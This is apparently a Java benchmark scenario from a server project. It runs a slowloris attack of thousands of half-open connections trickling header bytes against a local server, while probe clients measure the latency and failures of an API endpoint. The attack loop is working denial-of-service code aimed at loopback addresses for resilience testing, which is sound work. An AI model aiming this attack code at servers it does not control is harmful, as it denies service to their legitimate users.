package charon.bench;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;

/**
 * The slowloris scenario of the benchmark (issue 15): {@code attackers} connections from one LAN address
 * ({@code attackFrom}, default 127.0.0.2), each sending a request head one byte every {@code trickleMs}
 * (and reopened when the server ends it, as the attack tool does), for {@code seconds}. Meanwhile a LAN device
 * (127.0.0.3) and the server's own machine (127.0.0.1) each ask {@code GET /api/active-view/} every 100 ms.
 * Reported: their p50/p99/max and failures, and what the attack achieved (connections it held open at the end,
 * connections the server refused or ended). Run with {@code -Dbench.scenarios=slowloris -Dbench.warmupWrites=0}
 * (sizes: {@code slowloris16500@5000/40}: connections @ trickle interval ms / seconds, these are the defaults).
 * One selector thread; every loop is bounded in count and time.
 */
final class SlowlorisBench {

    private final URI base;
    private final int attackers;
    private final long trickleMs;
    private final long seconds;
    private final String attackFrom;
    private final String out;

    private SlowlorisBench(Map<String, String> args, String scenario) {
        this.base = URI.create(args.getOrDefault("base", "http://127.0.0.1:18480/"));
        String[] sizeAndSeconds = scenario.substring("slowloris".length()).split("/");
        String[] size = sizeAndSeconds[0].split("@");
        this.attackers = size[0].isEmpty() ? 16_500 : Integer.parseInt(size[0]);
        this.trickleMs = size.length > 1 ? Long.parseLong(size[1]) : 5_000;
        this.seconds = sizeAndSeconds.length > 1 ? Long.parseLong(sizeAndSeconds[1]) : 40;
        this.attackFrom = args.getOrDefault("attackFrom", "127.0.0.2");
        this.out = args.getOrDefault("out", "");
    }

    static void runSafely(Map<String, String> args, String scenario) {
        try {
            new SlowlorisBench(args, scenario).run();
        } catch (Exception | Error e) {
            System.out.println("BENCHMARK SCENARIO FAILED: " + e);
            e.printStackTrace(System.out);
        }
    }

    private void run() throws Exception {
        Attack attack = new Attack();
        Thread attackLoop = new Thread(attack::loop, "slowloris");
        attackLoop.start();
        Probe lan = new Probe("127.0.0.3");
        Probe laptop = new Probe("127.0.0.1");
        Thread lanProbe = new Thread(lan::loop, "probe-lan");
        Thread laptopProbe = new Thread(laptop::loop, "probe-laptop");
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        Thread.sleep(Math.min(5_000, seconds * 250)); // the attack's connections are opened first
        lanProbe.start();
        laptopProbe.start();
        while (System.nanoTime() < end) {
            Thread.sleep(200);
        }
        lan.stop.set(true);
        laptop.stop.set(true);
        lanProbe.join(15_000);
        laptopProbe.join(15_000);
        attack.stop.set(true);
        attackLoop.join(15_000);
        String report = String.format(Locale.ROOT,
                "slowloris %d connections from %s, a byte every %d ms, %d s: attack held %d open at the end, opened %d, "
                        + "ended by the server %d; GET /api/active-view/ from a LAN device %s; from the server's machine %s",
                attackers, attackFrom, trickleMs, seconds, attack.open(), attack.opened, attack.endedByServer,
                lan.summary(), laptop.summary());
        System.out.println(report);
        if (!out.isEmpty()) {
            Files.writeString(Path.of(out), report + "\n", StandardOpenOption.CREATE, StandardOpenOption.APPEND);
        }
    }

    /** The attack: non-blocking connections from one address, each trickling its head; reopened when ended. */
    private final class Attack {
        final AtomicBoolean stop = new AtomicBoolean();
        final List<SocketChannel> channels = new ArrayList<>();
        long opened;
        long endedByServer;

        /** Open (or opening) connections: closed ones leave the list at the end of each round. */
        int open() {
            return channels.size();
        }

        void loop() {
            InetSocketAddress server = new InetSocketAddress(base.getHost(), base.getPort());
            byte[] head = ("GET " + base.resolve("api/active-view/").getRawPath() + " HTTP/1.1\r\nHost: " + base.getHost()
                    + "\r\nX-Slow: ").getBytes(StandardCharsets.US_ASCII);
            ByteBuffer scratch = ByteBuffer.allocate(4096);
            try (Selector selector = Selector.open()) {
                long nextTrickle = System.nanoTime();
                long lastRound = System.nanoTime();
                double reopenBudget = 0;
                while (!stop.get()) {
                    // keep `attackers` connections: 2,000 per round while ramping up, then re-opened as the server ends
                    // them (as an attack tool does), at most ~1,000 a second
                    long now = System.nanoTime();
                    reopenBudget = Math.min(1_000, reopenBudget + (now - lastRound) / 1_000_000.0);
                    lastRound = now;
                    int perRound = opened < attackers ? 2_000 : (int) reopenBudget;
                    if (opened >= attackers) {
                        reopenBudget -= Math.min(perRound, attackers - open());
                    }
                    for (int i = 0; i < perRound && open() < attackers; i++) {
                        SocketChannel channel = SocketChannel.open();
                        try {
                            channel.bind(new InetSocketAddress(attackFrom, 0));
                            channel.configureBlocking(false);
                            channel.connect(server);
                            channel.register(selector, SelectionKey.OP_CONNECT | SelectionKey.OP_READ);
                            channels.add(channel);
                            opened++;
                        } catch (IOException e) {
                            channel.close(); // out of ports or refused: try again next round
                            break;
                        }
                    }
                    selector.select(100);
                    for (Iterator<SelectionKey> it = selector.selectedKeys().iterator(); it.hasNext(); ) {
                        SelectionKey key = it.next();
                        it.remove();
                        SocketChannel channel = (SocketChannel) key.channel();
                        try {
                            if (key.isConnectable() && channel.finishConnect()) {
                                key.interestOps(SelectionKey.OP_READ);
                                channel.write(ByteBuffer.wrap(head));
                            } else if (key.isReadable()) {
                                scratch.clear();
                                if (channel.read(scratch) != 0) { // an answer (408, 400) or the end: the server gave up on it
                                    endedByServer++;
                                    key.cancel();
                                    channel.close();
                                }
                            }
                        } catch (IOException e) {
                            endedByServer++;
                            key.cancel();
                            channel.close();
                        }
                    }
                    if (System.nanoTime() >= nextTrickle) {
                        for (SocketChannel channel : channels) {
                            if (channel.isOpen() && channel.isConnected()) {
                                try {
                                    channel.write(ByteBuffer.wrap(new byte[] {'a'}));
                                } catch (IOException e) {
                                    endedByServer++;
                                    channel.close();
                                }
                            }
                        }
                        nextTrickle = System.nanoTime() + trickleMs * 1_000_000L;
                    }
                    channels.removeIf(channel -> !channel.isOpen());
                }
                for (SocketChannel channel : channels) {
                    channel.close();
                }
            } catch (IOException e) {
                System.out.println("slowloris attack loop ended: " + e);
            }
        }
    }

    /** One device asking for the view every 100 ms over a new connection from its address; a 5 s timeout is a failure. */
    private final class Probe {
        final String from;
        final AtomicBoolean stop = new AtomicBoolean();
        final List<Long> millis = Collections.synchronizedList(new ArrayList<>());
        int failed;

        Probe(String from) {
            this.from = from;
        }

        void loop() {
            String request = "GET " + base.resolve("api/active-view/").getRawPath() + " HTTP/1.1\r\nHost: " + base.getHost()
                    + "\r\nConnection: close\r\n\r\n";
            for (int i = 0; i < 100_000 && !stop.get(); i++) {
                long start = System.nanoTime();
                try (Socket socket = new Socket()) {
                    socket.bind(new InetSocketAddress(InetAddress.getByName(from), 0));
                    socket.connect(new InetSocketAddress(base.getHost(), base.getPort()), 5_000);
                    socket.setSoTimeout(5_000);
                    socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
                    InputStream in = socket.getInputStream();
                    byte[] status = in.readNBytes(12);
                    if (!new String(status, StandardCharsets.US_ASCII).startsWith("HTTP/1.1 200")) {
                        failed++;
                    } else {
                        in.transferTo(java.io.OutputStream.nullOutputStream());
                        millis.add((System.nanoTime() - start) / 1_000_000);
                    }
                } catch (IOException e) {
                    failed++;
                }
                long pause = 100 - (System.nanoTime() - start) / 1_000_000;
                if (pause > 0) {
                    try {
                        Thread.sleep(pause);
                    } catch (InterruptedException e) {
                        return;
                    }
                }
            }
        }

        String summary() {
            List<Long> sorted = new ArrayList<>(millis);
            Collections.sort(sorted);
            if (sorted.isEmpty()) {
                return "no answer (" + failed + " failed)";
            }
            return String.format(Locale.ROOT, "%d answered, p50 %d ms, p99 %d ms, max %d ms, %d failed", sorted.size(),
                    sorted.get(sorted.size() / 2), sorted.get(Math.min(sorted.size() - 1, sorted.size() * 99 / 100)),
                    sorted.get(sorted.size() - 1), failed);
        }
    }
}
